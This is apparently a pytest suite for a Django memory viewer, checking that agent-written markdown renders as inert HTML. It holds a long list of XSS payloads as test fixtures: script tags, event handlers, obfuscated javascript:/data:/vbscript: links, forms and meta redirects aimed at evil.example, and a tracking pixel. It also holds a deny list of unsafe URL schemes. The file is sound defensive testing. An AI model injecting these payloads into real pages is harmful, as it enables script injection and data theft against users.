"""Memory markdown is untrusted: whatever an agent wrote must render as inert HTML."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from django.utils.safestring import SafeString

from memory_ui.documents import render, render_markdown
from memory_ui.templatetags.memory_markdown import render_markdown as render_markdown_filter
from tests.unit.timing import timed

ALLOWED_TAGS = {
    *("p", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "pre", "code", "hr", "br"),
    *("ul", "ol", "li", "em", "strong", "s", "del", "a"),
    *("table", "thead", "tbody", "tr", "th", "td"),
}
ALLOWED_ATTRIBUTES = {
    "a": {"href", "title", "rel"},
    "code": {"class"},
    "ol": {"start"},
    "th": {"align"},
    "td": {"align"},
}
SAFE_SCHEMES = {"http", "https", "mailto"}


class Elements(HTMLParser):
    """Every start tag with its attributes, values unescaped as a browser would."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    return Elements(html).found


def links(html: str) -> list[dict[str, str | None]]:
    return [attrs for tag, attrs in elements(html) if tag == "a"]


def assert_inert(html: str) -> None:
    for tag, attrs in elements(html):
        assert tag in ALLOWED_TAGS, tag
        assert set(attrs) <= ALLOWED_ATTRIBUTES.get(tag, set()), (tag, attrs)
        if "href" in attrs:
            # Browsers drop tabs and newlines inside URLs and ignore surrounding whitespace.
            href = "".join((attrs["href"] or "").split()).lower()
            assert urlsplit(href).scheme in SAFE_SCHEMES, href
        for value in attrs.values():
            for scheme in ("javascript:", "data:", "vbscript:", "file:"):
                assert scheme not in "".join((value or "").split()).lower()


XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="https://evil.example/x.swf"></object><embed src="x.swf">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="https://ok.example" target="_blank" onclick="alert(1)">x</a>',
    '<div onmouseover="alert(1)" style="position:fixed;inset:0">x</div>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<style>body{display:none}</style>",
    '<form action="https://evil.example"><input name=password><button>Go</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<div hx-get="/support/clear" hx-trigger="load">x</div>',
    "<!-- <script>alert(1)</script> -->",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x73;cript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))",
    "[x](javascript&colon;alert(1))",
    r"[x](javascript\:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](DATA:text/html,<script>alert(1)</script>)",
    "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x]( javascript:alert(1))",
    "[x](&#9;javascript:alert(1))",
    "[x](&#10;javascript:alert(1))",
    "[x](&#x20;javascript:alert(1))",
    "[x](java&#9;script:alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x](\tjavascript:alert(1))",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<vbscript:msgbox(1)>",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x][1]\n\n[1]: <data:text/html;base64,PHNjcmlwdD4=>",
    "![x](javascript:alert(1))",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](https://evil.example/track.png?user=alice)",
    "[![x](https://evil.example/track.png)](javascript:alert(1))",
    '[x](https://ok.example "a" onmouseover="alert(1)")',
    "[x](https://ok.example 'it\\'s \" onmouseover=alert(1) x=\"')",
    '```"><script>alert(1)</script>\ncode\n```',
    "```x onload=alert(1)\ncode\n```",
    "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|---|---|\n| <img src=x onerror=alert(1)> | b |",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>\n> [x](javascript:alert(1))",
    "- [x](vbscript:msgbox(1))\n  - ![y](javascript:alert(1))",
]


@pytest.mark.parametrize("markdown", XSS)
def test_hostile_markdown_renders_inert(markdown: str) -> None:
    html = render_markdown(markdown)

    assert_inert(html)
    assert "<script" not in html.lower()


def test_raw_html_is_shown_as_text() -> None:
    html = render_markdown('<script>alert(1)</script> and <b onclick="x()">bold</b>')

    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "&lt;b onclick=" in html
    assert [tag for tag, _ in elements(html)] == ["p"]


def test_escaped_entities_stay_text() -> None:
    html = render_markdown("AT&amp;T &lt;script&gt; &copy; 5 &lt; 6")

    assert html == "<p>AT&amp;T &lt;script&gt; © 5 &lt; 6</p>\n"


def test_link_title_with_quotes_stays_inside_the_attribute() -> None:
    html = render_markdown('[x](https://ok.example "say \\"hi\\" onmouseover=alert(1)")')

    assert links(html) == [
        {
            "href": "https://ok.example",
            "title": 'say "hi" onmouseover=alert(1)',
            "rel": "noopener noreferrer nofollow",
        }
    ]


def test_images_become_links_so_nothing_loads_on_view() -> None:
    html = render_markdown("![Alice's *badge*](https://cdn.example/badge.png)")

    assert "<img" not in html
    assert links(html) == [
        {"href": "https://cdn.example/badge.png", "rel": "noopener noreferrer nofollow"}
    ]
    assert ">Alice's badge</a>" in html.replace("&#39;", "'")


def test_data_image_becomes_a_link_without_href() -> None:
    html = render_markdown("![pixel](data:image/png;base64,iVBORw0KGgo=)")

    assert links(html) == [{"rel": "noopener noreferrer nofollow"}]
    assert "pixel" in html


@pytest.mark.parametrize(
    "markdown", ["[home](/logout)", "[x](//evil.example/path)", "[x](#top)", "[x](?next=/)"]
)
def test_relative_links_keep_only_their_text(markdown: str) -> None:
    html = render_markdown(markdown)

    assert links(html) == [{"rel": "noopener noreferrer nofollow"}]


def test_https_links_get_rel_and_no_target() -> None:
    html = render_markdown("See [the policy](https://contoso.example/policy?a=1&b=2).")

    assert links(html) == [
        {"href": "https://contoso.example/policy?a=1&b=2", "rel": "noopener noreferrer nofollow"}
    ]
    assert "target=" not in html


def test_mailto_links_and_autolinks() -> None:
    html = render_markdown(
        "[Mail Bob](mailto:bob@contoso.com) or <alice@contoso.com> <https://a.example>"
    )

    assert [link["href"] for link in links(html)] == [
        "mailto:bob@contoso.com",
        "mailto:alice@contoso.com",
        "https://a.example",
    ]


def test_ordinary_markdown_survives() -> None:
    markdown = "\n".join(
        [
            "# One",
            "## Two",
            "### Three",
            "#### Four",
            "##### Five",
            "###### Six",
            "",
            "*em* **strong** ~~gone~~ `code <b>`  ",
            "next line",
            "",
            "> quoted",
            "",
            "- a",
            "  - b",
            "",
            "3. three",
            "4. four",
            "",
            "---",
            "",
            "```python",
            "print('<b>')",
            "```",
        ]
    )

    html = render_markdown(markdown)

    assert_inert(html)
    for fragment in [
        "<h1>One</h1>",
        "<h2>Two</h2>",
        "<h6>Six</h6>",
        "<em>em</em>",
        "<strong>strong</strong>",
        "<s>gone</s>",
        "<code>code &lt;b&gt;</code><br>",
        "<blockquote>\n<p>quoted</p>\n</blockquote>",
        "<ul>\n<li>a\n<ul>\n<li>b</li>",
        '<ol start="3">',
        "<hr>",
        "<pre><code class=\"language-python\">print('&lt;b&gt;')\n</code></pre>",
    ]:
        assert fragment in html


def test_tables_keep_alignment_without_inline_style() -> None:
    html = render_markdown("| Item | Price |\n|:-----|------:|\n| Tea | 2 |\n")

    assert_inert(html)
    assert "<table>" in html
    assert '<th align="left">Item</th>' in html
    assert '<td align="right">2</td>' in html
    assert "style" not in html


def test_code_class_is_limited_to_the_language() -> None:
    html = render_markdown("```c++ extra words\nint x;\n```")

    assert '<code class="language-c++">' in html


def test_returns_safe_string_and_filter_handles_none() -> None:
    assert isinstance(render_markdown("x"), SafeString)
    assert render_markdown_filter("*x*") == "<p><em>x</em></p>\n"
    assert render_markdown_filter(None) == ""


def test_large_input_renders_quickly() -> None:
    paragraph = (
        "## Added 2026-10-02T16:40:55Z — note\n\nAlice prefers **aisle seats**, "
        "[policy](https://contoso.example) and `code` <script>x</script>.\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n- one\n- two\n\n"
    )
    markdown = paragraph * (100_000 // len(paragraph) + 1)
    assert len(markdown) >= 100_000

    html = timed(render_markdown, markdown, deadline=5)
    assert_inert(html)


@pytest.mark.parametrize("markdown", XSS)
def test_sanitizer_holds_without_markdown_it_safeguards(
    markdown: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Defence in depth: with raw HTML on and link validation off in markdown-it, the nh3
    # allow-list alone must still make every sample inert.
    monkeypatch.setitem(render._MARKDOWN.options, "html", True)
    monkeypatch.setattr(render._MARKDOWN, "validateLink", lambda url: True)

    html = render_markdown(markdown)

    assert_inert(html)
    assert "<script" not in html.lower()
